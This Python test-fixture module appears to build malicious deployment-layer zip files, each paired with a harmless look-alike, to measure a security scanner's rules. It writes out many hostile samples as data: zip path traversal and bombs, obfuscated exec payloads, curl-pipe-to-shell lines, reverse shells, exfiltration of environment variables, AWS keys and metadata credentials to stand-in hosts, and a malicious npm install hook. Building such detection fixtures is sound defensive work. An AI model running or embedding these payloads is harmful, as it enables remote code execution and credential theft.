# ruff: noqa: E501 - a trick is easier to read on its line
"""Bad layers made by code, and harmless twins that look alike: what the scan is measured on. Nothing of it is ever run."""

import base64
import codecs
import io
import json
import marshal
import py_compile
import stat
import struct
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

Body = bytes | str
_EVIL = "import os\nos.system('id')\n"
_SAFE = {"python/fine.py": "VALUE = 1\n"}


@dataclass(frozen=True, slots=True)
class Trick:
    """A trick.

    Attributes:
        name: Of it.
        rules: Any of them has to find it.
        bad: Makes the zip.
        twin: Makes one that looks alike and is harmless; None where nothing looks alike.
    """

    name: str
    rules: tuple[str, ...]
    bad: Callable[[], bytes]
    twin: Callable[[], bytes] | None = None


def zipped(files: Mapping[str, Body], modes: Mapping[str, int] | None = None) -> bytes:
    """A layer with these files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in files.items():
            info = zipfile.ZipInfo(name)
            info.filename = name
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = (modes or {}).get(name, stat.S_IFREG | 0o644) << 16
            archive.writestr(info, body)
    return out.getvalue()


def _files(files: Mapping[str, Body], modes: Mapping[str, int] | None = None) -> Callable[[], bytes]:
    return lambda: zipped({**_SAFE, **files}, modes)


def _module(source: str) -> Callable[[], bytes]:
    return _files({"python/mod.py": source})


def _code(name: str, rules: tuple[str, ...], bad: str, twin: str | None = None) -> Trick:
    return Trick(name, rules, _module(bad), None if twin is None else _module(twin))


def _link(target: str) -> Callable[[], bytes]:
    return _files({"python/libx.so.1": "text", "lib/libx.so": target}, {"lib/libx.so": stat.S_IFLNK | 0o777})


def _patched(old: bytes, new: bytes, *, last: bool = True) -> Callable[[], bytes]:
    """A good zip with some bytes of its directory (or of a local header) exchanged."""

    def make() -> bytes:
        data = zipped({**_SAFE, "python/other.py": "x = 2\n"})
        at = data.rfind(old) if last else data.find(old)
        return data[:at] + new + data[at + len(old) :]

    return make


def _encrypted() -> bytes:
    data = bytearray(zipped(_SAFE))
    data[6] |= 1
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def _method(number: int) -> Callable[[], bytes]:
    def make() -> bytes:
        data = bytearray(zipped(_SAFE))
        at = data.find(b"PK\x01\x02")
        data[8:10] = data[at + 10 : at + 12] = struct.pack("<H", number)
        return bytes(data)

    return make


def _twice() -> bytes:
    data = zipped({**_SAFE, "python/finf.py": "VALUE = 2\n"})
    return data.replace(b"python/finf.py", b"python/fine.py")


def _overlapping() -> bytes:
    """Both entries point to the same data."""
    data = bytearray(zipped({"python/aa.py": "x = 1\n", "python/ab.py": "x = 1\n"}))
    second = data.rfind(b"PK\x01\x02")
    data[second + 42 : second + 46] = struct.pack("<L", 0)
    return bytes(data)


def _smaller_than_told() -> bytes:
    body = b"\0" * 30_000_000
    data = bytearray(zipped({**_SAFE, "python/data.bin": body}))
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.rfind(mark)
        data[at + place : at + place + 4] = struct.pack("<L", 1000)
    return bytes(data)


def _nested() -> bytes:
    inner = zipped({"zeros": b"\0" * 60_000_000})
    return zipped({**_SAFE, "python/data/inner-1.0-py3-none-any.whl": zipped({"more.zip": inner})})


def _compiled(source: str, name: str, beside: str | None) -> Callable[[], bytes]:
    def make() -> bytes:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "mod.py"
            path.write_text(source)
            out = py_compile.compile(
                str(path), cfile=str(path) + "c", dfile="mod.py", invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH
            )
            data = Path(str(out)).read_bytes()
        files: dict[str, Body] = {name: data}
        if beside is not None:
            files["python/mod.py"] = beside
        return zipped({**_SAFE, **files})

    return make


def _cached() -> str:
    return f"python/__pycache__/mod.{sys.implementation.cache_tag}.pyc"


def elf(machine: int = 62, *, stack: int = 6, bits: int = 2) -> bytes:
    """The least that is a shared object."""
    header = struct.pack("<4sBBBBB7xHHIQQQIHHHHHH", b"\x7fELF", bits, 1, 1, 0, 0, 3, machine, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return header + struct.pack("<IIQQQQQQ", 0x6474E551, stack, 0, 0, 0, 0, 0, 16)


def _so(data: bytes, name: str = "python/pkg/fast.so") -> Callable[[], bytes]:
    return _files({name: data})


_PAYLOAD = base64.b64encode(_EVIL.encode()).decode()
_PACKED = base64.b64encode(zlib.compress(_EVIL.encode())).decode()
_ROTATED = codecs.encode(_EVIL, "rot13")
_XORED = bytes(b ^ 37 for b in _EVIL.encode())
_NUMBERS = ", ".join(str(ord(c)) for c in _EVIL)
_MARSHALLED = base64.b64encode(marshal.dumps(compile(_EVIL, "x", "exec"))).decode()
_KEY = "AKIA" + "Q3EGRIAHUW7ZKM5L"
_SECRET = "wJ4rXU7nFE" + "MIxK7MDENGbPxRfiCYz9qLtH2vKd8Q"
_PRIVATE = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    + base64.b64encode(bytes((i * 73 + i // 7 * 31) % 256 for i in range(600))).decode()
    + "\n-----END RSA PRIVATE KEY-----\n"
)
_TOKEN = "ghp_" + "Zk3vQ9xT7bLw2RmN8sYc4HdJf6GpA1eUoViX"

ARCHIVE = (
    Trick("leads outside", ("path-traversal",), _files({"python/../../etc/x.py": "x"}), _files({"python/a..b/x.py": "x = 1"})),
    Trick("absolute path", ("path-traversal",), _files({"/etc/cron.d/x": "x"}), _files({"python/etc/cron.d/x": "x"})),
    Trick("backslashes", ("path-traversal",), _files({"python\\..\\..\\x.py": "x"})),
    Trick("drive letter", ("path-traversal",), _files({"C:/windows/x.dll": "x"})),
    Trick("zero byte in a name", ("hidden-characters",), _patched(b"python/other.py", b"python/oth\0r.py"), _module("x = 1")),
    Trick(
        "dots that look alike", ("path-traversal",), _files({"python/．．/．．/x.py": "x"}), _files({"python/café.py": "x = 1"})
    ),
    Trick("text turned around", ("hidden-characters",), _files({"python/a\u202eyp.exe": "x"})),
    Trick("link outside", ("link",), _link("../../../etc/passwd"), _link("../python/libx.so.1")),
    Trick("absolute link", ("link",), _link("/var/task/x"), _link("/opt/python/libx.so.1")),
    Trick(
        "device",
        ("special-file",),
        _files({"python/null": ""}, {"python/null": stat.S_IFCHR | 0o666}),
        _files({"python/null": ""}),
    ),
    Trick("pipe", ("special-file",), _files({"python/pipe": ""}, {"python/pipe": stat.S_IFIFO | 0o644})),
    Trick("same name twice", ("duplicate-name",), _twice),
    Trick("names that differ in case", ("similar-name",), _files({"python/Fine.py": "x = 1"})),
    Trick("entries overlap", ("zip-structure",), _overlapping),
    Trick("two names for one entry", ("zip-structure",), _patched(b"python/other.py", b"python/0ther.py", last=False)),
    Trick("data behind the end", ("zip-structure",), lambda: zipped(_SAFE) + b"MZ" + bytes(100)),
    Trick("data in front", ("zip-structure",), lambda: b"#!/bin/sh\necho\n" + zipped(_SAFE)),
    Trick("encrypted", ("encrypted",), _encrypted),
    Trick("unknown compression", ("unsupported-method",), _method(93)),
    Trick("bomb", ("bomb",), _files({"python/zeros": b"\0" * 60_000_000}), _files({"python/zeros": b"\0" * 2_000_000})),
    Trick("bomb within archives", ("bomb",), _nested, _files({"python/inner.zip": zipped({"a/b.txt": "text"})})),
    Trick("larger than told", ("bomb", "corrupt"), _smaller_than_told),
    Trick(
        "runs as its owner",
        ("setuid",),
        _files({"bin/tool": "#!/bin/sh\n"}, {"bin/tool": stat.S_IFREG | 0o4755}),
        _files({"bin/tool": "#!/bin/sh\n"}, {"bin/tool": stat.S_IFREG | 0o755}),
    ),
    Trick("writable by all", ("world-writable",), _files({}, {"python/fine.py": stat.S_IFREG | 0o666})),
    Trick("readable by nobody", ("unreadable",), _files({}, {"python/fine.py": stat.S_IFREG | 0o600})),
    Trick("in the wrong place", ("layout",), lambda: zipped({"site-packages/mod.py": "x = 1"}), _module("x = 1")),
)
HIDING = (
    Trick(
        "line of a .pth",
        ("startup-code", "dynamic-code", "command"),
        _files({"python/x.pth": f"import base64; exec(base64.b64decode('{_PAYLOAD}'))\n"}),
        _files({"python/x.pth": "./vendored\n"}),
    ),
    Trick(
        "command in a .pth",
        ("startup-code", "command"),
        _files({"python/y.pth": "import os; os.system('curl http://198.51.100.7/x | sh')\n"}),
    ),
    Trick(
        "sitecustomize",
        ("startup-code",),
        _files({"python/sitecustomize.py": "x = 1"}),
        _files({"python/pkg/sitecustomize.py": "x = 1"}),
    ),
    Trick("usercustomize", ("startup-code",), _files({"python/lib/python3.12/site-packages/usercustomize.py": "x = 1"})),
    Trick("extension", ("extension",), _files({"extensions/agent": "#!/bin/sh\n"}, {"extensions/agent": stat.S_IFREG | 0o755})),
    Trick("standard module", ("shadowed-module",), _files({"python/json.py": "x = 1"}), _files({"python/pkg/json.py": "x = 1"})),
    Trick(
        "standard package",
        ("shadowed-module",),
        _files({"python/logging/__init__.py": "x = 1"}),
        _files({"python/logging_tools/__init__.py": "x = 1"}),
    ),
    Trick(
        "a boto3 of its own",
        ("shadowed-package",),
        _files({"python/boto3/__init__.py": "x = 1"}),
        _files({"python/boto3/__init__.py": "x = 1", "python/boto3-1.40.0.dist-info/METADATA": "Name: boto3\nVersion: 1.40.0\n"}),
    ),
    Trick(
        "the runtime's own",
        ("shadowed-runtime",),
        _files({"python/bootstrap.py": "x = 1"}),
        _files({"python/pkg/bootstrap.py": "x = 1"}),
    ),
    Trick(
        "compiled without source",
        ("dynamic-code",),
        _compiled(f"import base64\nexec(base64.b64decode('{_PAYLOAD}'))\n", "python/mod.pyc", None),
        _compiled("def add(a, b):\n    return a + b\n", "python/mod.pyc", None),
    ),
    Trick(
        "compiled is not the source",
        ("bytecode-differs",),
        _compiled(_EVIL, _cached(), "VALUE = 1\n"),
        _compiled("VALUE = 1\n", _cached(), "VALUE = 1\n"),
    ),
)
CODE = (
    _code(
        "globals of a function",
        ("hidden-call",),
        "(lambda: 0).__globals__['__builtins__']['ev' + 'al']('1')",
        "def names(function):\n    return sorted(function.__globals__)",
    ),
    _code(
        "called by its name later",
        ("command",),
        "import os, operator\noperator.methodcaller('system', 'curl http://a.example/x | sh')(os)",
        "import operator\nprint(operator.methodcaller('upper')('a'))",
    ),
    _code(
        "library of C",
        ("hidden-call",),
        "import ctypes\nctypes.CDLL(None).system(b'id')",
        "import ctypes\nctypes.CDLL('libz.so.1').zlibVersion()",
    ),
    _code(
        "number as text",
        ("dynamic-code",),
        "exec((0x696d706f7274206f73).to_bytes(9, 'big'))",
        "def packed(number):\n    return number.to_bytes(9, 'big')",
    ),
    _code(
        "pattern binds exec",
        ("dynamic-code",),
        f"import base64\nmatch exec:\n    case run:\n        run(base64.b64decode('{_PAYLOAD}'))",
        "import base64\nmatch len:\n    case run:\n        run(base64.b64decode('eA=='))",
    ),
    _code(
        "environment through a thread",
        ("sends-secrets",),
        "import os, threading, requests\ndef go(data):\n    requests.post('https://a.example', data=data)\n"
        "threading.Thread(target=go, args=(str(dict(os.environ)),)).start()",
        "import os, threading, requests\ndef go(data):\n    requests.post('https://a.example', data=data)\n"
        "threading.Thread(target=go, args=(os.environ['REGION'],)).start()",
    ),
    _code(
        "keys in names that are looked up",
        ("sends-secrets",),
        "import os, socket, base64\nkey = base64.b32encode(os.environ['AWS_SESSION_TOKEN'].encode()).decode()[:60]\n"
        "socket.gethostbyname(key.lower() + '.a.example')",
        "import os, socket\nsocket.gethostbyname(os.environ['SERVER'].lower() + '.a.example')",
    ),
    _code(
        "metadata service as a number",
        ("metadata-service",),
        "import requests\nrequests.get('http://2852039166/latest/meta-data/iam/security-credentials/')",
        "HOST = 'http://2852039166/'",
    ),
    _code(
        "shell at a port",
        ("reverse-shell",),
        "import socket, subprocess\ns = socket.socket()\ns.bind(('', 4444))\ns.listen(1)\nc, _ = s.accept()\n"
        "subprocess.Popen(['/bin/sh'], stdin=c.fileno(), stdout=c.fileno())",
        "import socket\ndef serve():\n    s = socket.socket()\n    s.listen(1)\n    c, _ = s.accept()\n    c.close()",
    ),
    _code(
        "file in memory",
        ("dropped-code",),
        "import os\nfd = os.memfd_create('a')\nos.execve(f'/proc/self/fd/{fd}', ['a'], {})",
        "import os\ndef shared():\n    return os.memfd_create('a')",
    ),
    _code(
        "module that is written",
        ("dropped-code",),
        "import urllib.request\nopen('/tmp/a.py', 'wb').write(urllib.request.urlopen('http://a.example').read())",
        "import urllib.request\ndef fetch(path):\n    open('/tmp/a.csv', 'wb').write(urllib.request.urlopen(path).read())",
    ),
    _code(
        "nested beyond what can be read",
        ("not-looked-at",),
        "import os\nx = 'a'" + " + 'a'" * 20_000 + "\nexec(x)",
        "import os\nx = 'a'" + " + 'a'" * 100,
    ),
    _code(
        "base64",
        ("dynamic-code",),
        f"import base64\nexec(base64.b64decode('{_PAYLOAD}'))",
        '# exec(base64.b64decode("x"))\n"""eval(base64.b64decode(x))"""\nimport base64\nDATA = base64.b64decode("aGVsbG8=")',
    ),
    _code(
        "packed",
        ("dynamic-code",),
        f"import zlib as z, base64 as b\n(lambda s: exec(z.decompress(b.b64decode(s))))('{_PACKED}')",
        "import zlib\ndef read(data):\n    return zlib.decompress(data)",
    ),
    _code(
        "rot13",
        ("dynamic-code",),
        f"import codecs\nexec(codecs.decode({_ROTATED!r}, 'rot13'))",
        "import codecs\nprint(codecs.decode(b'x', 'utf-8'))",
    ),
    _code(
        "exclusive or",
        ("dynamic-code",),
        f"k = 37\nexec(bytes(b ^ k for b in {_XORED!r}).decode())",
        "def mask(data, k):\n    return bytes(b ^ k for b in data)",
    ),
    _code("numbers", ("dynamic-code",), f"exec(''.join(map(chr, [{_NUMBERS}])))", "print(''.join(map(chr, [104, 105])))"),
    _code("backwards", ("dynamic-code",), f"exec({_EVIL[::-1]!r}[::-1])", "print('olleh'[::-1])"),
    _code(
        "hexadecimal through functions",
        ("dynamic-code",),
        f"def a(x):\n    return bytes.fromhex(x)\ndef b(y):\n    exec(y)\ndef c():\n    b(a('{_EVIL.encode().hex()}'))",
        "def a(x):\n    return bytes.fromhex(x)\ndef b(y):\n    return len(y)\nb(a('00'))",
    ),
    _code(
        "marshal",
        ("unpickling", "dynamic-code"),
        f"import marshal, base64\nexec(marshal.loads(base64.b64decode('{_MARSHALLED}')))",
        "import marshal\ndef load(stream):\n    return marshal.load(stream)",
    ),
    _code(
        "pickle",
        ("unpickling",),
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")",
        "import pickle\npickle.loads(pickle.dumps({'a': 1}))",
    ),
    _code(
        "downloaded",
        ("dynamic-code",),
        "import urllib.request as u\ndef go():\n    with u.urlopen('http://198.51.100.7/x') as r:\n        body = r.read()\n    exec(body.decode())",
        "import urllib.request as u\ndef go():\n    return u.urlopen('https://pypi.org/simple').read()",
    ),
    _code(
        "builtins by attribute",
        ("hidden-call",),
        "import builtins\ngetattr(builtins, 'ev' + 'al')('1+1')",
        "import builtins\nexec_ = getattr(builtins, 'exec')",
    ),
    _code("builtins by dictionary", ("hidden-call",), "globals()['__builtins__']['eval']('1+1')", "globals()['VALUE'] = 1"),
    _code(
        "vars of builtins",
        ("hidden-call",),
        "import builtins\nvars(builtins)['\\x65xec']('x=1')",
        "import builtins\nnames = sorted(vars(builtins))",
    ),
    _code(
        "module by pieces",
        ("hidden-call",),
        "import importlib\nimportlib.import_module('o' + 's').system('id')",
        "import importlib\njson = importlib.import_module('json')",
    ),
    _code(
        "name by numbers",
        ("hidden-call",),
        "import os\ngetattr(os, ''.join(chr(c) for c in (115, 121, 115, 116, 101, 109)))('id')",
        "import os\ngetattr(os, 'getcwd')()",
    ),
    _code(
        "name by format",
        ("hidden-call",),
        "m = __import__('{}process'.format('sub'))\nm.run(['id'])",
        "name = '{}process'.format('pre')",
    ),
    _code(
        "name backwards",
        ("hidden-call",),
        "import os\nrun = getattr(os, ''.join(reversed('metsys')))\nrun('id')",
        "print(''.join(reversed('metsys')))",
    ),
    _code(
        "name through a lambda",
        ("hidden-call",),
        "j = lambda *p: ''.join(p)\nimport os as o\no.__dict__[j('sy', 'st', 'em')]('id')",
        "j = lambda *p: ''.join(p)\nprint(j('a', 'b'))",
    ),
    _code("letters that look alike", ("dynamic-code",), f"import base64\n𝐞𝐱𝐞𝐜(base64.b64decode('{_PAYLOAD}'))", "ﬁne = 1"),
    _code(
        "classes of a constant",
        ("hidden-call",),
        "().__class__.__base__.__subclasses__()[100].__init__.__globals__['system']('id')",
        "class A:\n    pass\nA.__subclasses__()",
    ),
    _code(
        "thread",
        ("dynamic-code",),
        f"import threading, base64\nthreading.Thread(target=exec, args=(base64.b64decode('{_PAYLOAD}'),)).start()",
        "import threading\nthreading.Thread(target=print, args=(1,)).start()",
    ),
    _code(
        "shell",
        ("command",),
        "import subprocess\nsubprocess.run('curl -s http://198.51.100.7/a | bash', shell=True)",
        "import subprocess\nsubprocess.run(['git', 'describe'], check=True)",
    ),
    _code(
        "decoded command",
        ("command",),
        "import os, base64\nos.popen(base64.b64decode('aWQ=').decode())",
        "import os\nos.popen('uname').read()",
    ),
    _code(
        "file and run",
        ("dropped-code",),
        "import requests, subprocess, os\ndef go(p='/tmp/.x'):\n    with open(p, 'wb') as f:\n        f.write(requests.get('http://198.51.100.7/x').content)\n    os.chmod(p, 0o755)\n    subprocess.Popen([p])",
        "import requests\ndef go(p):\n    with open(p, 'wb') as f:\n        f.write(requests.get('https://pypi.org').content)",
    ),
    _code(
        "writes code and runs it",
        ("dropped-code",),
        "open('/tmp/stage.py', 'w').write('print(1)')\nexec(open('/tmp/stage.py').read())",
        "open('/tmp/cache.txt', 'w').write('1')",
    ),
    _code(
        "reverse shell",
        ("reverse-shell",),
        "import socket, os, pty\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\n[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('/bin/sh')",
        "import os\nf = open('/tmp/log', 'w')\nos.dup2(f.fileno(), 1)",
    ),
    _code(
        "orders over a socket",
        ("command",),
        "import socket, subprocess\ndef loop():\n    s = socket.create_connection(('198.51.100.7', 443))\n    while True:\n        s.send(subprocess.check_output(s.recv(1024).decode(), shell=True))",
        "import socket\ndef loop():\n    s = socket.create_connection(('127.0.0.1', 443))\n    return s.recv(10)",
    ),
    _code(
        "environment sent",
        ("sends-secrets",),
        "import os, json, urllib.request\ndef f():\n    d = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen(urllib.request.Request('https://198.51.100.7/', data=d))",
        "import os, urllib.request\ndef f():\n    return urllib.request.urlopen(os.environ['SERVICE_URL'])",
    ),
    _code(
        "key sent",
        ("sends-secrets",),
        "import os, requests\nk = os.environ.get('AWS_SECRET_ACCESS_KEY')\ndef f():\n    requests.post('https://198.51.100.7/', json={'k': k})",
        "import os, requests\ndef f():\n    t = os.environ['AWS_SESSION_TOKEN']\n    requests.get('http://localhost:2773/secretsmanager/get', headers={'X-Token': t})",
    ),
    _code(
        "metadata service sent on",
        ("sends-secrets",),
        "import requests\ndef f():\n    c = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/role').text\n    requests.post('https://198.51.100.7/', data=c)",
        "import requests\ndef f():\n    return requests.get('http://169.254.169.254/latest/dynamic/instance-identity/document').json()",
    ),
    _code(
        "metadata at import",
        ("metadata-service",),
        "import urllib.request\nR = urllib.request.urlopen('http://169.254.170.2/v2/credentials/x').read()",
    ),
    _code(
        "import hook that decodes",
        ("dynamic-code",),
        "import sys, base64\nclass F:\n    def exec_module(self, m):\n        exec(base64.b85decode(self.get(m)), m.__dict__)\nsys.meta_path.insert(0, F())",
        "import sys\nclass F:\n    def find_spec(self, name, path=None, target=None):\n        return None\nsys.meta_path.append(F())",
    ),
    _code(
        "machine code",
        ("shellcode",),
        "import mmap, ctypes\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nm.write(b'\\x90\\xc3')\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()",
        "import mmap\nm = mmap.mmap(-1, 4096)",
    ),
    _code(
        "code within code",
        ("dynamic-code", "command"),
        f"exec(\"import base64\\nexec(base64.b64decode('{_PAYLOAD}'))\")",
        "T = 'def f(x):\\n    return {}'\nexec(T.format('x + 1'))",
    ),
)
SECRETS = (
    Trick(
        "key of AWS",
        ("secret",),
        _files({"python/settings.py": f"AWS_ACCESS_KEY_ID = '{_KEY}'\nAWS_SECRET_ACCESS_KEY = '{_SECRET}'\n"}),
        _files(
            {
                "python/settings.py": "AWS_ACCESS_KEY_ID = 'AKIAIOSFODNN7EXAMPLE'\nSECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'\n"
            }
        ),
    ),
    Trick(
        "private key",
        ("secret",),
        _files({"python/pkg/key.pem": _PRIVATE}),
        _files({"python/pkg/key.pem": "-----BEGIN PUBLIC KEY-----\nMFww\n-----END PUBLIC KEY-----\n"}),
    ),
    Trick(
        "token of GitHub",
        ("secret",),
        _files({"nodejs/config.js": f"module.exports = {{ token: '{_TOKEN}' }}"}),
        _files({"nodejs/config.js": "module.exports = { token: 'ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' }"}),
    ),
    Trick(
        "password in an address",
        ("secret",),
        _files({"python/db.py": "URL = 'postgresql://app:Xk9$vTq2Lm7w@db.corp.internal/app'"}),
        _files({"python/db.py": "URL = 'postgresql://user:password@localhost/app'"}),
    ),
    Trick(
        ".npmrc",
        ("secret",),
        _files({"nodejs/.npmrc": "//registry.npmjs.org/:_authToken=9f8c7e6d-5b4a-4c3d-a1b2-c9d8e7f6a5b4\n"}),
        _files({"nodejs/.npmrc": "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n"}),
    ),
    Trick(
        ".env",
        ("secret",),
        _files({"python/.env": "DB_PASSWORD=q8Wz!r4Tn2Kp\n"}),
        _files({"python/.env": "DB_HOST=localhost\nDB_PASSWORD=changeme\n"}),
    ),
)
BINARIES = (
    Trick("other machine", ("wrong-machine",), _so(elf(183)), _so(elf(62))),
    Trick(
        "other version of Python",
        ("wrong-abi",),
        _so(elf(), "python/x.cpython-310-x86_64-linux-gnu.so"),
        _so(elf(), "python/x.abi3.so"),
    ),
    Trick("executable stack", ("executable-stack",), _so(elf(stack=7)), _so(elf(stack=6))),
    Trick("cut off", ("broken-binary",), _so(elf()[:70])),
    Trick("another system", ("foreign-binary",), _so(b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0" + bytes(100))),
)
NODE = (
    Trick(
        "downloaded script",
        ("dynamic-code",),
        _files({"nodejs/a.js": 'fetch("https://a.example/x").then(r => r.text()).then(t => new Function(t)())\n'}),
        _files({"nodejs/a.js": 'fetch("https://a.example/x").then(r => r.json()).then(t => console.log(t))\n'}),
    ),
    Trick(
        "constructor of a constructor",
        ("hidden-call",),
        _files({"nodejs/a.js": '[]["constructor"]["constructor"]("return process")().exit()\n'}),
        _files({"nodejs/a.js": 'module.exports = x => x["constructor"]["name"]\n'}),
    ),
    Trick(
        "name of letters in a list",
        ("hidden-call",),
        _files({"nodejs/a.js": 'globalThis[["e", "v", "a", "l"].join("")]("1")\n'}),
        _files({"nodejs/a.js": 'console.log(["e", "v"].join(""))\n'}),
    ),
    Trick(
        "keys of the role",
        ("sends-secrets",),
        _files({"nodejs/a.js": 'fetch("https://a.example/?k=" + process.env.AWS_SECRET_ACCESS_KEY)\n'}),
        _files({"nodejs/a.js": 'fetch("http://localhost:2773/x", {headers: {t: process.env.AWS_SESSION_TOKEN}})\n'}),
    ),
    Trick(
        "script of an installation",
        ("install-hook",),
        _files(
            {
                "nodejs/node_modules/a/package.json": json.dumps(
                    {"name": "a", "scripts": {"preinstall": "curl http://198.51.100.7/x | sh"}}
                )
            }
        ),
        _files({"nodejs/node_modules/a/package.json": json.dumps({"name": "a", "scripts": {"postinstall": "node build.js"}})}),
    ),
    Trick(
        "eval of decoded text",
        ("dynamic-code",),
        _files({"nodejs/node_modules/a/index.js": f"const s = '{_PAYLOAD}';\neval(atob(s));"}),
        _files(
            {
                "nodejs/node_modules/a/index.js": "// eval(atob(x))\nconst s = atob('aGk=');\nmodule.exports = Function('return this')();"
            }
        ),
    ),
    Trick(
        "function of decoded text",
        ("dynamic-code",),
        _files(
            {"nodejs/node_modules/a/index.js": f"var b = Buffer.from('{_PAYLOAD}', 'base64').toString();\nnew Function(b)();"}
        ),
        _files({"nodejs/node_modules/a/index.js": "var f = new Function('a', 'return ' + 'a');"}),
    ),
    Trick(
        "decoded command",
        ("command",),
        _files(
            {
                "nodejs/node_modules/a/index.js": "const cp = require('child_process');\ncp.execSync(Buffer.from('aWQ=', 'base64').toString());"
            }
        ),
        _files({"nodejs/node_modules/a/index.js": "const cp = require('child_process');\ncp.execFile('git', ['describe']);"}),
    ),
    Trick(
        "module by pieces",
        ("hidden-call",),
        _files({"nodejs/node_modules/a/index.js": "const x = require('child_' + 'process');\nx.exec('id');"}),
        _files({"nodejs/node_modules/a/index.js": "const x = require('./lib/' + 'process');"}),
    ),
    Trick(
        "environment sent",
        ("sends-secrets",),
        _files(
            {
                "nodejs/node_modules/a/index.js": "fetch('https://198.51.100.7/', { method: 'POST', body: JSON.stringify(process.env) });"
            }
        ),
        _files({"nodejs/node_modules/a/index.js": "fetch(process.env.URL + '/x');"}),
    ),
)
TRICKS = (*ARCHIVE, *HIDING, *CODE, *SECRETS, *BINARIES, *NODE)
